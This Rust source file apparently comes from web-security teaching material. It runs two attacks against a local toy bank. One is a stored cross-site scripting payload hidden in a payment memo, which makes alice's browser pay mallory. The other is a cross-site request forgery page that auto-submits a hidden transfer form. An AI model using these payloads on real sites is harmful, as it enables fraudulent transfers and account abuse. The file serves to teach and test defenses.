//! What mallory does through alice: it is alice's browser that talks to the bank.

use axum::Router;
use axum::response::Html;
use axum::routing::get;
use url::Url;
use web::client::loopback;
use web::escape_html;
use web::html::tags;
use web::server::Listen;

use crate::{browser, token, verdict};

// ANCHOR: script
/// Runs in alice's browser, on the bank's page, with all that she may do there.
const SCRIPT: &str = "Thanks!<script>fetch('/pay', {method: 'POST', \
    body: new URLSearchParams({payee: 'mallory', amount: '10', memo: 'gift'})})</script>";

pub async fn script(bank: &Url) -> anyhow::Result<()> {
    let mut mallory = browser(bank, "mallory").await?;
    let token = token(&mallory.get("/").await?);
    let form = [
        ("payee", "alice"),
        ("amount", "0.01"),
        ("memo", SCRIPT),
        ("token", &token),
    ];
    let paid = mallory.post("/pay", &form).await?;
    println!("mallory pays alice 0.01: {}", paid.status.as_u16());
    let page = browser(bank, "alice").await?.get("/").await?;
    let scripts = tags(&page.text())
        .iter()
        .filter(|tag| tag.name == "script")
        .count();
    println!("alice looks at her account; scripts in the page: {scripts}");
    let policy = page.field("content-security-policy").unwrap_or("none");
    println!("Content-Security-Policy: {policy}");
    verdict(
        scripts > 0,
        match scripts {
            0 => "the memo is text",
            _ => "mallory's program runs in alice's browser",
        },
    )
}
// ANCHOR_END: script

// ANCHOR: forged-form
/// What the page of another site sends: alice's browser adds her cookie by itself.
const FORM: [(&str, &str); 3] = [("payee", "mallory"), ("amount", "10"), ("memo", "A prize")];

pub async fn forged_form(bank: &Url) -> anyhow::Result<()> {
    let mut alice = browser(bank, "alice").await?;
    alice.origin = Some("http://prizes.example".to_owned());
    let answer = alice.post("/pay", &FORM).await?;
    println!(
        "POST /pay with alice's cookie, from http://prizes.example: {}",
        answer.status.as_u16()
    );
    match answer.status.as_u16() {
        303 => verdict(true, "alice has paid mallory 10.00"),
        _ => verdict(false, answer.text().trim()),
    }
}
// ANCHOR_END: forged-form

// ANCHOR: page
pub async fn serve(listen: Listen, bank: &Url) -> anyhow::Result<()> {
    loopback(bank)?;
    let fields = FORM.map(|(name, value)| {
        let value = escape_html::attribute(value);
        format!("<input type=hidden name={name} value=\"{value}\">")
    });
    let action = escape_html::url(bank.join("/pay")?.as_str());
    let page = format!(
        "<!DOCTYPE html><title>You have won</title><h1>You have won!</h1>\
         <form method=post action=\"{action}\">{}</form>\
         <script>document.forms[0].submit()</script>",
        fields.concat()
    );
    listen
        .serve(Router::new().route("/", get(async || Html(page))))
        .await
}
// ANCHOR_END: page
